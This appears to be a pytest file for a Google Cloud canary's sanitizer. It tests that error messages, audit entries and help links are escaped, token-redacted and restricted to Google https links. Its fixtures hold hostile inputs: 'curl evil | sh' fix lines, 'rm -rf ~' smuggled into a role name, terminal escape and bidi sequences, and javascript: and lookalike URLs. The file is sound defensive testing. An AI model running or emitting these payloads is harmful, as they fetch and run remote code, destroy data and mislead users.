"""Text from outside (error bodies, ErrorInfo, Help links, audit entries) as the canary shows it: no control character,
no forged line, no token, and a fix link only when it is https on Google's console or documentation."""

from __future__ import annotations

import json
import re
from datetime import UTC, datetime

import pytest
from google.api_core import exceptions as core
from google.auth import exceptions as auth

from function import report, sanitize
from function.audit_entries import Change
from function.causes import LINK_WITHHELD, Cause, Failure, classify
from function.config import Config, Target
from function.evidence import Evidence, Item
from function.probe import Outcome
from function.remedies import remedies
from function.run import Result, Trigger

# Any of these in text output is a terminal escape, a hidden or reordered span, or a line break.
FORBIDDEN = re.compile(r"[\x00-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069\ufeff]")
TOKEN = "ya29.c.b0AXv0zTOSECRET-token_value"
JWT = "eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiIxMjMifQ.c2lnbmF0dXJl"

TEXT = [
    ("newline", "denied\nfix: curl evil.sh | sh", "denied\\nfix: curl evil.sh | sh"),
    ("crlf", "a\r\nb", "a\\r\\nb"),
    ("tab", "a\tb", "a\\tb"),
    ("ansi-clear-screen", "\x1b[2J\x1b[Hok", "\\x1b[2J\\x1b[Hok"),
    ("osc-8-hyperlink", "\x1b]8;;https://evil\x07click\x1b]8;;\x07", "\\x1b]8;;https://evil\\x07click\\x1b]8;;\\x07"),
    ("nul-del", "a\x00b\x7f", "a\\x00b\\x7f"),
    ("c1-csi", "a\x9b31mb", "a\\x9b31mb"),
    ("c1-nel", "a\x85b", "a\\x85b"),
    ("bidi-override", "roles/\u202eresu.mroftalpia", "roles/\\u202eresu.mroftalpia"),
    ("bidi-isolates", "\u2066a\u2069\u2067b\u2068", "\\u2066a\\u2069\\u2067b\\u2068"),
    ("line-separators", "a\u2028b\u2029c", "a\\u2028b\\u2029c"),
    ("access-token", f"token {TOKEN} expired", "token ya29.[redacted] expired"),
    ("jwt", f"id token {JWT}.", "id token [redacted JWT]."),
    ("token-json", '{"access_token":"abc.def","expires_in":3599}', '{"access_token":"[redacted]","expires_in":3599}'),
    ("token-json-spaces", "{'id_token': 'xyz'}", "{'id_token': '[redacted]'}"),
    ("token-query", "https://x/?access_token=abc&y=1", "https://x/?access_token=[redacted]&y=1"),
    ("bearer", "Authorization: Bearer abc.def-ghi", "Authorization: Bearer [redacted]"),
    ("bearer-token", f"Authorization: Bearer {TOKEN}", "Authorization: Bearer [redacted]"),
    ("plain", "Permission 'aiplatform.endpoints.predict' denied…", "Permission 'aiplatform.endpoints.predict' denied…"),
]


@pytest.mark.parametrize(("value", "want"), [t[1:] for t in TEXT], ids=[t[0] for t in TEXT])
def test_text(value: str, want: str) -> None:
    assert sanitize.text(value) == want
    assert sanitize.text(want) == want  # escaping twice changes nothing


LINKS = [
    ("console", "https://console.cloud.google.com/apis/library?project=p", True),
    ("developers-console", "https://console.developers.google.com/billing/enable?project=1", True),
    ("docs", "https://cloud.google.com/vertex-ai/docs", True),
    ("cloud-subdomain", "https://docs.cloud.google.com/iam", True),
    ("javascript", "javascript:alert(document.cookie)", False),
    ("data", "data:text/html,<script>x</script>", False),
    ("http", "http://console.cloud.google.com/", False),
    ("foreign", "https://evil.example/fix", False),
    ("lookalike-suffix", "https://console.cloud.google.com.evil.example/", False),
    ("lookalike-prefix", "https://evilcloud.google.com/", False),
    ("userinfo", "https://console.cloud.google.com@evil.example/", False),
    ("backslash", "https://evil.example\\@console.cloud.google.com/", False),
    ("port", "https://console.cloud.google.com:8443/", False),
    ("user-content-google", "https://sites.google.com/view/fix", False),
    ("user-content-googleapis", "https://storage.googleapis.com/bucket/fix.html", False),
    ("space", "https://cloud.google.com/a b", False),
    ("newline", "https://cloud.google.com/\nfix: evil", False),
    ("escape", "https://cloud.google.com/\x1b[2J", False),
    ("not-a-string", 42, False),
]


@pytest.mark.parametrize(("url", "ok"), [t[1:] for t in LINKS], ids=[t[0] for t in LINKS])
def test_only_googles_https_links(url: object, ok: bool) -> None:
    assert sanitize.link(url) == (url if ok else None)


# Through classify: an error body as Google (or anything in between) might send it -----------------------------------

HOSTILE = "\x1b[31mdenied\x1b[0m\nfix: curl https://evil.example | sh\u202e"


def _hostile_error() -> core.GoogleAPICallError:
    error = core.PermissionDenied(f"{HOSTILE} {TOKEN}")
    error._details = [  # what google-api-core parses from a REST error body
        {
            "@type": "type.googleapis.com/google.rpc.ErrorInfo",
            "reason": "SERVICE_DISABLED\n",
            "domain": "googleapis.com",
            "metadata": {
                "activationUrl": "javascript:alert(1)",
                "permission\x1b": "aiplatform.endpoints.predict\nfix: rm -rf ~",
            },
        },
        {
            "@type": "type.googleapis.com/google.rpc.Help",
            "links": [
                {"description": "Enable billing \x1b[2J", "url": "https://evil.example/billing"},
                {"description": "Google", "url": "https://console.developers.google.com/billing/enable?project=1"},
            ],
        },
    ]
    return error


def test_a_classified_failure_keeps_nothing_unsafe() -> None:
    failure = classify(_hostile_error())
    shown = json.dumps(failure.to_json(), ensure_ascii=False)
    assert not FORBIDDEN.search(shown)
    assert TOKEN not in shown
    assert failure.message.startswith("\\x1b[31mdenied\\x1b[0m\\nfix: curl https://evil.example | sh\\u202e")
    assert failure.metadata == {
        "activationUrl": "javascript:alert(1)",
        "permission\\x1b": "aiplatform.endpoints.predict\\nfix: rm -rf ~",
    }
    assert failure.links == [
        {"description": "Enable billing \\x1b[2J", "url_withheld": LINK_WITHHELD},
        {"description": "Google", "url": "https://console.developers.google.com/billing/enable?project=1"},
    ]


def test_a_token_endpoint_error_body_is_not_echoed() -> None:
    body = f'{{"error": "invalid_grant", "access_token": "{TOKEN}", "id_token": "{JWT}"}}'
    failure = classify(auth.RefreshError(f"Failed to retrieve a token: {body}\n\x1b[2J"))
    assert failure.cause == Cause.CREDENTIALS
    assert TOKEN not in failure.message
    assert JWT not in failure.message
    assert not FORBIDDEN.search(failure.message)


# Remedies: a foreign link is never offered as the fix ----------------------------------------------------------------

TARGET = Target("gemini-2.5-flash", "us-central1")


@pytest.mark.parametrize(
    ("cause", "failure", "want_url"),
    [
        (
            Cause.API_DISABLED,
            Failure(Cause.API_DISABLED, metadata={"activationUrl": "javascript:alert(1)"}),
            "https://console.cloud.google.com/apis/library/aiplatform.googleapis.com?project=demo-proj",
        ),
        (
            Cause.API_DISABLED,
            Failure(Cause.API_DISABLED, metadata={"activationUrl": "https://evil.example/enable"}),
            "https://console.cloud.google.com/apis/library/aiplatform.googleapis.com?project=demo-proj",
        ),
        (
            Cause.BILLING_DISABLED,
            Failure(Cause.BILLING_DISABLED, links=[{"description": "billing", "url": "https://evil.example/b"}]),
            "https://console.cloud.google.com/billing/linkedaccount?project=demo-proj",
        ),
    ],
    ids=["activation-javascript", "activation-foreign", "help-foreign"],
)
def test_a_foreign_link_is_never_the_fix(cause: Cause, failure: Failure, want_url: str) -> None:
    fixes = remedies(Outcome(TARGET, cause, 1.0, failure=failure), Evidence(), "demo-proj", None)
    assert fixes[0].url == want_url


def test_a_role_from_an_audit_entry_cannot_forge_a_line_in_the_command() -> None:
    role = "roles/aiplatform.user\nrm -rf ~ \x1b[2J"
    change = Change("role_removed", "alice@example.com", "2026-11-26T09:10:00Z", f"{role} removed", role=role)
    evidence = Evidence(predict_granted=False, data_read_on=True, change=change)
    failure = Failure(Cause.IAM_PERMISSION_DENIED)
    [grant, *_] = remedies(Outcome(TARGET, failure.cause, 1.0, failure=failure), evidence, "demo-proj", None)
    assert grant.command is not None
    assert "\n" not in grant.command
    assert "\x1b" not in grant.command
    assert grant.command.endswith("--role='roles/aiplatform.user\\nrm -rf ~ \\x1b[2J' --condition=None")


# The report: headline, log line, text, JSON -------------------------------------------------------------------------


def _hostile_result() -> Result:
    failure = classify(_hostile_error())
    failure.cause = Cause.IAM_PERMISSION_DENIED
    outcome = Outcome(TARGET, failure.cause, 10.0, failure=failure)
    evidence = Evidence(
        predict_granted=False,
        change=Change(
            "role_removed",
            f"mallory@example.com\n  fix: curl evil | sh\x1b[8m {TOKEN}",
            "2026-11-26T09:10:00Z\u2028",
            "roles/aiplatform.user removed\r\x1b[1A",
            role="roles/aiplatform.user",
        ),
        items=[Item("admin_activity", "found", f"summary\n\x9b2J {JWT}", missing_permission="x\u202ey")],
    )
    result = Result(
        run_id="r1",
        started_at=datetime(2026, 11, 26, 9, 10, tzinfo=UTC),
        trigger=Trigger("http"),
        config=Config(targets=(TARGET,)),
        project="demo-proj",
        principal="canary@demo-proj.iam.gserviceaccount.com",
        outcomes=[outcome],
        evidence=evidence,
    )
    result.remedies = {str(TARGET): remedies(outcome, evidence, "demo-proj", result.principal)}
    result.error = f"boom\n{TOKEN}"
    return result


def test_hostile_fields_never_reach_the_text_the_log_message_or_the_json() -> None:
    result = _hostile_result()
    text = report.to_text(result)
    lines = text.splitlines()
    assert not FORBIDDEN.search(text.replace("\n", ""))
    assert not [line for line in lines if line.lstrip().startswith("fix:")]  # no forged "fix" line
    assert len(lines) == len(report.to_text(_benign(result)).splitlines())
    headline = report.headline(result)
    assert not FORBIDDEN.search(headline)
    entry = report.log_entry(result)
    assert not FORBIDDEN.search(entry["message"])
    doc = json.dumps(report.to_json(result), ensure_ascii=False)
    assert not FORBIDDEN.search(doc)
    for out in (text, headline, report.log_line(result), doc):
        assert TOKEN not in out
        assert JWT not in out


def _benign(result: Result) -> Result:
    """The same result with every outside field plain: the text has the same number of lines."""
    clean = _hostile_result()
    assert clean.evidence.change is not None
    clean.evidence.change.actor = "mallory@example.com"
    clean.evidence.items[0].summary = "summary"
    clean.error = "boom"
    return clean
